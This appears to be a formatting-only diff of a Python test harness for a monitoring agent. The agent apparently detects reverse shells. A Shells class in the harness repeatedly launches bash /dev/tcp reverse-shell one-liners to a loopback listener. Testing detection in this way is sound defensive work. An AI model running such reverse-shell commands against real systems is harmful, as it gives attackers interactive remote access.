@@ -43,7 +43,9 @@ class Site:
         self.collector: subprocess.Popen[bytes] | None = None
         self.agent: subprocess.Popen[bytes] | None = None
         config = folder / "collector.toml"
-        config.write_text(f'[collector]\nport = {self.port}\ndatabase = "sqlite:///collector.db"\nsilence_seconds = 3\n')
+        config.write_text(
+            f'[collector]\nport = {self.port}\ndatabase = "sqlite:///collector.db"\nsilence_seconds = 3\n'
+        )
         (folder / "agent.toml").write_text(
             f'[agent]\nstate_dir = "{folder}/state"\nrun_dir = "{folder}/run"\nheartbeat_seconds = 2\n'
             f"[detect]\nloopback_is_remote = true\n"
@@ -140,7 +142,9 @@ class Shells:
         code = f"exec 3<>/dev/tcp/127.0.0.1/{self._port}; exec sh <&3 >&3 2>&3"
         while not self._end.wait(0.12):
             self._children = [child for child in self._children if child.poll() is None]
-            self._children.append(subprocess.Popen(["bash", "-c", code], stdin=subprocess.DEVNULL, env=dict(os.environ)))
+            self._children.append(
+                subprocess.Popen(["bash", "-c", code], stdin=subprocess.DEVNULL, env=dict(os.environ))
+            )
             self.opened += 1
 
     def _accept(self) -> None:
